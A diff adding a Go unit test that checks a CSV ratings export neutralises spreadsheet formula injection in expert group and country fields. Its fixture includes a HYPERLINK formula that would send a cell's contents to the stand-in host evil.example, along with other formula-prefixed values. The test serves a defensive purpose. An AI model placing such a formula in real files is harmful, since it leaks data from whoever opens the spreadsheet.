@@ -2,6 +2,8 @@ package realtime
 
 import (
 	"bytes"
+	"encoding/csv"
+	"strings"
 	"testing"
 	"time"
 
@@ -56,5 +58,39 @@ func TestWriteCSVReadsBack(t *testing.T) {
 				}
 			}
 		}
+	}
+}
+
+// TestWriteCSVNeutralisesFormulas: a group or country that a spreadsheet
+// would run as a formula comes out inert, as in every other CSV export
+// (export.Neutralise); `delphi analyze` still reads the file.
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
+	in := &report.Ratings{
+		Experts:    []report.Expert{{ID: "E417", Group: formula, Country: "+NL"}, {ID: "E023", Group: "@SUM(1)", Country: "-GR"}},
+		Statements: []string{"S1"},
+		HasGroup:   true, HasCountry: true,
+		Rounds: []report.Round{{Number: 1, Responses: [][]analysis.Response{{analysis.Rating(3), analysis.Rating(4)}}}},
+	}
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, in); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s holds a live formula %q", rows[0][i], cell)
+			}
+		}
+	}
+	if rows[1][4] != "'"+formula || rows[1][5] != "'+NL" || rows[2][4] != "'@SUM(1)" {
+		t.Errorf("rows %q", rows[1:])
+	}
+	if _, err := report.ParseRatings(buf.Bytes(), analysis.Scale{Min: 1, Max: 5}); err != nil {
+		t.Errorf("delphi analyze cannot read it: %v", err)
 	}
 }
